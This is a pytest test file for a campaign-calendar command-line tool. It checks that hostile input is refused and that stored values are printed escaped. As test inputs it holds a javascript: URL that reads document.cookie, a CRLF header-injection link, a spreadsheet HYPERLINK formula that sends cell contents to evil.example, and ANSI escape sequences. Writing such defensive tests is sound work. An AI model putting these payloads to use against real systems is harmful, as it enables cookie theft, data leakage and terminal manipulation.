"""Campaign text that would attack its readers: refused by `check`, or made inert on the way out.

Campaign files are edited by many people and progress is recorded from the web, so a link,
a title or a `by` value can be hostile. `check` refuses `javascript:` links, formula-like titles
and control characters; recording progress refuses a `by` holding control characters; and what
is already stored is printed escaped.
"""

from __future__ import annotations

import datetime as dt
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from support.cli import CliRunner

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def campaigns(tmp_path: Path, data_dir: Path) -> Path:
    folder = tmp_path / "campaigns"
    shutil.copytree(data_dir / "campaigns", folder)
    return folder


def _edit(folder: Path, old: str, new: str) -> None:
    path = folder / "seeds.toml"
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        (
            'url = "https://intranet.example.nhs.uk/blog/lgbt-2021"',
            'url = "javascript:alert(document.cookie)"',
            "assets.0.url: 'javascript:alert(document.cookie)' is not a link we publish: it has "
            "javascript:",
        ),
        (
            'url = "https://intranet.example.nhs.uk/blog/lgbt-2021"',
            'url = "https://intranet.example.nhs.uk/blog\\r\\nX-Injected: 1"',
            "assets.0.url: 'https://intranet.example.nhs.uk/blog\\r\\nX-Injected: 1' is not a link",
        ),
        (
            'title = "LGBTQ+ History Month celebration"',
            f"title = '{FORMULA}'",
            'lgbt-2021: title: \'=HYPERLINK("http://evil.example/?x="&A1,"Click")\' starts with '
            "'='",
        ),
        ('name = "Draft the blog"', 'name = "-1+2"', "tasks.0.name: '-1+2' starts with '-'"),
        (
            'email = "comms@example.nhs.uk"',
            'email = "comms@example.nhs.uk\\n"',
            "owners.0.email: 'comms@example.nhs.uk\\n' is not an email address",
        ),
        (
            'summary = "A celebration with a blog."',
            'summary = "Done\\u001b[2K"',
            "summary: contains the control character U+001B (ESC)",
        ),
    ],
    ids=["javascript-url", "crlf-url", "formula-title", "formula-task", "email-newline", "esc"],
)
def test_check_refuses_hostile_campaigns(
    old: str,
    new: str,
    message: str,
    campaigns: Path,
    write_config: Callable[..., Path],
    run_cli: CliRunner,
) -> None:
    _edit(campaigns, old, new)
    result = run_cli.with_config(write_config(campaigns))("check")
    assert result.code == 1, result.out
    assert message in result.err
    assert "\x1b" not in result.err


def test_by_with_control_characters_is_refused(
    campaigns: Path, write_config: Callable[..., Path], run_cli: CliRunner
) -> None:
    """`--by` is printed later by `campaign show`; an ESC in it is refused, nothing recorded."""
    run = run_cli.with_config(write_config(campaigns))
    result = run("campaign", "done", "iwd-2021", "confirm-speaker", "--year", "2021",
                 "--by", "Asha\x1b[2J")  # fmt: skip
    assert result.code == 2, result.out
    assert "by 'Asha\\x1b[2J' contains the control character U+001B (ESC)" in result.err
    assert "\x1b" not in result.err


def test_stored_by_is_printed_escaped(
    campaigns: Path, write_config: Callable[..., Path], run_cli: CliRunner
) -> None:
    """A `by` stored before it was checked is shown as `\\x1b`, never sent to the terminal raw."""
    from edicalendar.campaigns.progress import record_task
    from edicalendar.storage.engine import open_database

    config = write_config(campaigns)
    run = run_cli.with_config(config)
    database = open_database(f"sqlite:///{config.parent / 'data' / 'edicalendar.db'}")
    at = dt.datetime(2021, 2, 1, tzinfo=dt.UTC)
    record_task(database, "iwd-2021", "2021", "confirm-speaker", by="Eve\x1b[2J\x9b0m", at=at)
    database.close()

    shown = run("campaign", "show", "iwd-2021", "--year", "2021")
    assert shown.code == 0, shown.err
    assert "\x1b" not in shown.out and "\x9b" not in shown.out
    assert "done by Eve\\x1b[2J\\x9b0m" in shown.out
